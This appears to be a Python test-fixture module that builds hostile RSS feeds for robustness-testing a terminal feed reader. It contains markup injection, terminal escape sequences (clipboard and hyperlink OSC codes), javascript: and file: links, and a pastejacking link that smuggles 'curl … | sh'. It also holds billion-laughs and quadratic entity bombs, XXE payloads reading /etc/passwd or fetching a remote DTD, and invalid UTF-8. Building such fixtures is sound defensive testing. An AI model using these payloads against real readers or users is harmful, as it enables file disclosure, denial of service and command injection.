"""Hostile feed documents. Each builder returns the keyword arguments of a loopback Route."""

from __future__ import annotations

import time
from email.utils import formatdate
from xml.sax.saxutils import escape

from feedgen import rss

MARKUP = [
    "[@click=app.quit]Quit[/]",
    "[link=file:///etc/passwd]passwd[/link]",
    "unbalanced [/] and [/b] and [bold red]open",
    "[@click=app.open_url('javascript:alert(1)')]js[/] \\[escaped]",
]
# Each hostile sequence wraps a visible word that must survive cleaning.
ESCAPES = {
    "csi": "\x1b[31mRED\x1b[0m",
    "osc52": "\x1b]52;c;ZXZpbA==\x07CLIP",
    "osc8": "\x1b]8;;http://evil.example/\x1b\\LINK\x1b]8;;\x1b\\",
    "cursor": "\x1b[2J\x1b[HHOME\x1b[10A\x1b[5C",
    "cr": "SAFE\rEVIL",
    "backspace": "BACK\x08\x08\x08\x08OVER",
    "bel": "BELL\x07\x07",
    "c1": "\x9b31mC1CSI\x9d0;title\x9c",
    "dcs": "\x1bP1$tDCS\x1b\\",
}
UNICODE = {
    "bidi": "\u202eTXT.EXE\u202c \u2066iso\u2069 \u200fRLM",
    "zero_width": "ZE\u200bRO\u200c\u200dWI\u2060DTH\ufeff",
    "combining": "Z" + "\u0301\u0310\u0336" * 1000 + "ALGO",
}
BAD_LINKS = [
    "javascript:alert(document.cookie)",
    " JaVaScRiPt:alert(1)",
    "file:///etc/passwd",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox",
    "http://ok.example/\x1b[31m",
    "//evil.example/protocol-relative",
]


def _route(body: str | bytes, **kw) -> dict:
    return {"body": body.encode("utf-8") if isinstance(body, str) else body, **kw}


def _raw_rss(items: list[str], head: str = "", title: str = "Hostile") -> str:
    """RSS with item XML inserted verbatim (the feed decides what is escaped)."""
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}\n'
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>{title}</title><link>http://example.org/</link>"
        + "".join(items)
        + "</channel></rss>"
    )


def _date(i: int = 0) -> str:
    return formatdate(time.time() - 60 * i, usegmt=True)


def markup() -> dict:
    items = [
        {
            "title": t,
            "guid": f"m{i}",
            "date": time.time() - i,
            "summary": f"<p>{escape(t)}</p>",
            "image": "http://example.org/a.jpg",
            "caption": t,
            "credit": MARKUP[0],
        }
        for i, t in enumerate(MARKUP)
    ]
    return _route(rss("[@click=app.quit]Source[/]", items))


def escapes_raw() -> dict:
    """Raw controls in titles, summaries, captions: not well-formed XML, so feedparser reads it."""
    items = [
        {
            "title": f"{k} {v}",
            "guid": f"e-{k}",
            "date": time.time() - i,
            "summary": v,
            "image": "http://example.org/a.jpg",
            "caption": v,
            "credit": v,
        }
        for i, (k, v) in enumerate(ESCAPES.items())
    ]
    return _route(rss("Esc\x1b[31mapes\x07", items))


def _ncr(text: str) -> str:
    return "".join(
        f"&#{ord(c)};" if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 else escape(c) for c in text
    )


def escapes_ncr() -> dict:
    """The same sequences as numeric character references (&#27; is not XML 1.0; &#x9b; is)."""
    items = [
        f"<item><title>{_ncr(k + ' ' + v)}</title><guid>n-{k}</guid>"
        f"<pubDate>{_date(i)}</pubDate><description>{_ncr(v)}</description></item>"
        for i, (k, v) in enumerate(ESCAPES.items())
    ]
    return _route(_raw_rss(items))


def escapes_c1_ncr() -> dict:
    """C1 controls and bidi overrides as references XML 1.0 allows: the fast path reads these."""
    items = [
        f"<item><title>A&#x9b;31mB&#x85;C&#x202e;D&#x200b;E</title><guid>c1</guid>"
        f"<pubDate>{_date()}</pubDate><description>&#x9d;52;c;eA==&#x9c;F&#x2066;G"
        "</description></item>"
    ]
    return _route(_raw_rss(items))


def escapes_cdata() -> dict:
    """Raw escapes in CDATA HTML, and escapes hidden as HTML entities inside escaped HTML."""
    raw = "".join(ESCAPES.values())
    items = [
        f"<item><title><![CDATA[<b>CDATA</b> {raw}]]></title><guid>cd1</guid>"
        f"<pubDate>{_date()}</pubDate><description><![CDATA[<p>{raw}</p><script>alert(1)"
        f"</script>]]></description><content:encoded><![CDATA[<p>body {raw}</p>]]>"
        "</content:encoded></item>",
        "<item><title>&lt;b&gt;entity&amp;#27;[31m&amp;#x1b;]52;c;eA==&amp;#7;&lt;/b&gt;</title>"
        f"<guid>cd2</guid><pubDate>{_date(1)}</pubDate><description>&lt;p&gt;&amp;#27;[2J"
        "&amp;#x9b;6n&amp;#8238;rtl&lt;/p&gt;</description></item>",
    ]
    return _route(_raw_rss(items))


def unicode_tricks() -> dict:
    items = [
        {"title": f"{k} {v}", "guid": f"u-{k}", "date": time.time() - i, "summary": v}
        for i, (k, v) in enumerate(UNICODE.items())
    ]
    return _route(rss("\u202eSource\u202c", items))


def huge_title() -> dict:
    five_mb = "A" * (5 * 1024 * 1024)
    return _route(
        rss(
            "Huge",
            [
                {"title": five_mb, "guid": "big-title", "date": time.time()},
                {"title": "After the big one", "guid": "after"},
            ],
        )
    )


def huge_summary() -> dict:
    summary = "<p>" + "word " * 600_000 + "</p>"  # 3 MB of HTML in one description
    return _route(rss("Huge", [{"title": "Big summary", "guid": "big-sum", "summary": summary}]))


def many_items(n: int = 100_000) -> dict:
    items = [
        {"title": f"Item {i}", "guid": f"many-{i}", "date": time.time() - 60 * i} for i in range(n)
    ]
    return _route(rss("Many", items))


def duplicate_guids() -> dict:
    items = [{"title": f"Dup {i}", "guid": "same", "date": time.time() - i} for i in range(50)]
    items += [{"title": "Unique", "guid": "unique"}]
    items += [{"title": "Same link", "link": "http://example.org/same", "guid": ""}] * 3
    return _route(rss("Dups", items))


def missing_fields() -> dict:
    items = [
        "<item></item>",
        "<item><title></title><link></link><guid></guid></item>",
        "<item><description>Only a description</description></item>",
        "<item><title>Only a title</title></item>",
        "<item><link>http://example.org/only-link</link></item>",
        "<item><guid>only-guid</guid></item>",
    ]
    return _route(_raw_rss(items, title=""))


def odd_dates() -> dict:
    dates = [
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "Sat, 01 Jan 0000 00:00:00 GMT",
        "0000-00-00T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "+275760-09-13T00:00:00Z",
        "Mon, 01 Jan 1 00:00:00 GMT",
        "Tue, 99 Foo 2026 99:99:99 +9999",
        "-1",
        "1e308",
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "2038-01-19T03:14:08Z",
        "31/12/2099",
        "a" * 10000,
    ]
    items = [
        f"<item><title>Date {i}</title><guid>d{i}</guid><pubDate>{escape(d)}</pubDate>"
        f"<atom:updated xmlns:atom='http://www.w3.org/2005/Atom'>{escape(d)}</atom:updated>"
        "</item>"
        for i, d in enumerate(dates)
    ]
    return _route(_raw_rss(items))


def bad_links() -> dict:
    items = [
        {
            "title": f"Link {i}",
            "guid": f"l{i}",
            "link": link,
            "date": time.time() - i,
            "image": link,
            "caption": "img",
        }
        for i, link in enumerate(BAD_LINKS)
    ]
    items.append({"title": "Guid as link", "guid": "javascript:alert(2)"})
    body = rss("Links", items, link="javascript:alert(3)")
    body = body.replace("<item>", '<item><enclosure url="file:///etc/passwd" type="image/png"/>', 1)
    return _route(body)


# Links that would run a second command if pasted into a shell, or hide what they are.
PASTEJACK_LINKS = {
    "Paste newline": "http://ok.example/nl.html&#10;curl&#9;-s&#9;http://ok.example/x|sh",
    "Paste tab": "http://ok.example/a&#9;b",
    "Paste CR": "http://ok.example/a&#13;b",
    "Paste nbsp": "http://ok.example/a&#160;b",
    "Paste separator": "http://ok.example/a&#x2028;b",
    "Paste tag chars": "http://ok.example/a&#xE0041;b",
}


def pastejacking_links() -> dict:
    items = [
        f"<item><title>{title}</title><guid>p{i}</guid><pubDate>{_date(i)}</pubDate>"
        f"<link>{link}</link></item>"
        for i, (title, link) in enumerate(PASTEJACK_LINKS.items())
    ]
    items.append(
        "<item><title>Credentials</title><guid>cred</guid>"
        "<link>http://user:secret@ok.example/private</link></item>"
    )
    return _route(_raw_rss(items))


LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def billion_laughs() -> dict:
    head = f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>'
    items = [
        "<item><title>Laugh &lol9;</title><guid>lol</guid><description>&lol9;</description></item>",
        "<item><title>Plain</title><guid>plain</guid></item>",
    ]
    return _route(_raw_rss(items, head=head, title="&lol9;"))


def quadratic_blowup() -> dict:
    """One big entity referenced many times (no nesting): defeats naive depth limits."""
    head = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>'
    items = [
        f"<item><title>Q{i} " + "&a;" * 200 + f"</title><guid>q{i}</guid></item>" for i in range(5)
    ]
    return _route(_raw_rss(items, head=head))


def external_entities(dtd_url: str) -> dict:
    head = (
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        f'<!ENTITY % remote SYSTEM "{dtd_url}"> %remote;'
        f'<!ENTITY net SYSTEM "{dtd_url}">]>'
    )
    items = [
        "<item><title>XXE &xxe; &net;</title><guid>xxe</guid>"
        "<description>&xxe;</description></item>"
    ]
    return _route(_raw_rss(items, head=head, title="&xxe;"))


def external_dtd(dtd_url: str) -> dict:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{dtd_url}">'
        '<rss version="2.0"><channel><title>DTD &ext;</title>'
        "<item><title>T &ext;</title><guid>dtd</guid></item></channel></rss>"
    )
    return _route(body)


def invalid_utf8() -> dict:
    good = [{"title": f"Valid naïve ☃ {i}", "guid": f"v{i}"} for i in range(5)]
    body = rss("Bad bytes", good + [{"title": "BAD-MARK", "guid": "bad"}])
    raw = body.encode("utf-8").replace(
        b"BAD-MARK", b"bad \xff\xfe\xc3\x28 \xed\xa0\x80 \xc0\xaf end"
    )
    return _route(raw)


def truncated_mid_char() -> dict:
    body = rss("Cut", [{"title": f"caf\u00e9 \u2603 {i}", "guid": f"t{i}"} for i in range(5)])
    raw = body.encode("utf-8")
    cut = raw.rindex("\u2603".encode()) + 1  # inside the last snowman's three bytes
    return _route(raw[:cut])


def html_as_feed() -> dict:
    page = (
        "<html><head><title>[@click=app.quit]Page\x1b[31m</title></head><body>"
        "<item><title>not an item</title></item></body></html>"
    )
    return _route(page, content_type="application/rss+xml")


def xhtml_as_feed() -> dict:
    page = (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>'
        "<title>XHTML</title></head><body><p>hello</p></body></html>"
    )
    return _route(page, content_type="application/xml")
